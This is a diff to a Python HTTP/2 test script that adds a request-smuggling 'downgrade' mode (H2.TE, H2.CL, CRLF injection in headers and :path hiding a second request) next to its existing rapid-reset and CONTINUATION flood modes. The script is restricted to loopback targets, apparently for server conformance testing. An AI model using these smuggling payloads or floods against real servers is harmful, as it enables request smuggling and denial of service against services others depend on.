@@ -3,6 +3,7 @@
 
     h2_flood.py rapid-reset  HOST PORT AUTHORITY [--streams N] [--seconds S]
     h2_flood.py continuation HOST PORT AUTHORITY [--bytes N] [--seconds S]
+    h2_flood.py downgrade    HOST PORT AUTHORITY
 
 rapid-reset: the CVE-2023-44487 shape. Opens streams (HEADERS with END_STREAM) and
 resets each at once (RST_STREAM CANCEL), in batches, as fast as the socket takes them,
@@ -13,7 +14,11 @@ continuation: one HEADERS frame without END_HEADERS, then CONTINUATION frames th
 never end the header block (CVE-2024-27316 and friends), so a server that buffers the
 block grows without limit; reconnects likewise.
 
-Either stops at its budget (streams/bytes) or at --seconds. Prints one JSON line: what was sent, what the server answered, and how the
+downgrade: request smuggling through the HTTP/2 -> HTTP/1.1 translation (H2.TE, H2.CL,
+CR/LF in header values and in :path), one connection per case, each hiding a second
+request `GET /smuggled`; reports how the server answered each (status, reset code).
+
+The floods stop at their budget (streams/bytes) or at --seconds. Prints one JSON line: what was sent, what the server answered, and how the
 connection ended. Loopback only: the caller's test passes 127.0.0.1.
 """
 
@@ -39,15 +44,23 @@ BATCH = 100  # streams (or frames) written per sendall
 class Peer:
     """The socket plus an h2 state machine that reads whatever the server sends."""
 
-    def __init__(self, host, port):
+    def __init__(self, host, port, validate=True):
         self.sock = socket.create_connection((host, port), timeout=5)
         self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
-        config = h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
+        config = h2.config.H2Configuration(
+            client_side=True,
+            header_encoding="utf-8",
+            # Off for `downgrade`: it sends what a conforming client never would.
+            validate_outbound_headers=validate,
+            normalize_outbound_headers=validate,
+        )
         self.conn = h2.connection.H2Connection(config=config)
         self.closed = False
         self.goaway = None
         self.responses = 0
+        self.statuses = []
         self.resets_received = 0
+        self.reset_codes = []
         self.received_bytes = 0
 
     def start(self):
@@ -92,8 +105,10 @@ class Peer:
                     self.goaway = int(event.error_code)
                 elif isinstance(event, h2.events.ResponseReceived):
                     self.responses += 1
+                    self.statuses += [v for k, v in event.headers if k == ":status"]
                 elif isinstance(event, h2.events.StreamReset):
                     self.resets_received += 1
+                    self.reset_codes.append(int(event.error_code))
             self.flush()
 
     def drain(self, seconds):
@@ -213,9 +228,84 @@ def continuation(host, port, authority, budget, seconds):
     }
 
 
+SMUGGLED = b"GET /smuggled HTTP/1.1\r\nHost: h1.test\r\n\r\n"
+
+
+def downgrade_cases(authority):
+    """(name, headers, body) for each smuggling shape."""
+    auth = authority.encode()
+
+    def head(method=b"POST", path=b"/", extra=()):
+        return [
+            (b":method", method),
+            (b":scheme", b"http"),
+            (b":authority", auth),
+            (b":path", path),
+        ] + list(extra)
+
+    return [
+        # RFC 9113 8.2.2: connection-specific fields make a request malformed.
+        ("H2.TE", head(extra=[(b"transfer-encoding", b"chunked")]), b"0\r\n\r\n" + SMUGGLED),
+        # 8.1.1: a content-length that disagrees with the DATA is malformed.
+        ("H2.CL", head(extra=[(b"content-length", b"0")]), SMUGGLED),
+        # 8.2.1: CR, LF and NUL are not allowed in field values...
+        (
+            "CRLF in a header value",
+            head(method=b"GET", extra=[(b"x-inject", b"a\r\ntransfer-encoding: chunked")]),
+            b"",
+        ),
+        (
+            "CRLF request in a header value",
+            head(method=b"GET", extra=[(b"x-inject", b"a\r\n\r\n" + SMUGGLED)]),
+            b"",
+        ),
+        # ... nor in :path, which becomes the HTTP/1.1 request line.
+        ("CRLF in :path", head(method=b"GET", path=b"/ HTTP/1.1\r\nHost: h1.test\r\n\r\n" + SMUGGLED), b""),
+        ("space in :path", head(method=b"GET", path=b"/a b"), b""),
+        ("colon in a header name", head(method=b"GET", extra=[(b"x:y", b"z")]), b""),
+        ("uppercase header name", head(method=b"GET", extra=[(b"X-Upper", b"z")]), b""),
+        ("host header disagreeing with :authority", head(method=b"GET", extra=[(b"host", b"other.test")]), b""),
+    ]
+
+
+def downgrade(host, port, authority):
+    results = {}
+    for name, headers, body in downgrade_cases(authority):
+        try:
+            peer = Peer(host, port, validate=False)
+        except OSError as e:
+            results[name] = {"error": str(e)}
+            continue
+        peer.start()
+        peer.poll(0.05)
+        try:
+            peer.conn.send_headers(1, headers, end_stream=not body)
+            if body:
+                peer.conn.send_data(1, body, end_stream=True)
+            peer.flush()
+        except h2.exceptions.ProtocolError as e:
+            results[name] = {"error": "h2 refused to send: %s" % e}
+            peer.sock.close()
+            continue
+        deadline = time.monotonic() + 3
+        while not peer.closed and time.monotonic() < deadline:
+            peer.poll(0.1)
+            if peer.statuses or peer.reset_codes or peer.goaway is not None:
+                peer.drain(0.2)
+                break
+        results[name] = {
+            "statuses": peer.statuses,
+            "reset_codes": peer.reset_codes,
+            "goaway": peer.goaway,
+            "closed_by_server": peer.closed,
+        }
+        peer.sock.close()
+    return {"cases": results, "peer": None}
+
+
 def main():
     parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
-    parser.add_argument("mode", choices=["rapid-reset", "continuation"])
+    parser.add_argument("mode", choices=["rapid-reset", "continuation", "downgrade"])
     parser.add_argument("host")
     parser.add_argument("port", type=int)
     parser.add_argument("authority")
@@ -227,6 +317,12 @@ def main():
         sys.exit("h2_flood.py: loopback targets only (127.0.0.0/8)")
 
     started = time.monotonic()
+    if args.mode == "downgrade":
+        result = downgrade(args.host, args.port, args.authority)
+        result.pop("peer")
+        result.update(mode=args.mode, seconds=round(time.monotonic() - started, 3))
+        print(json.dumps(result), flush=True)
+        return
     if args.mode == "rapid-reset":
         result = rapid_reset(args.host, args.port, args.authority, args.streams, args.seconds)
     else:
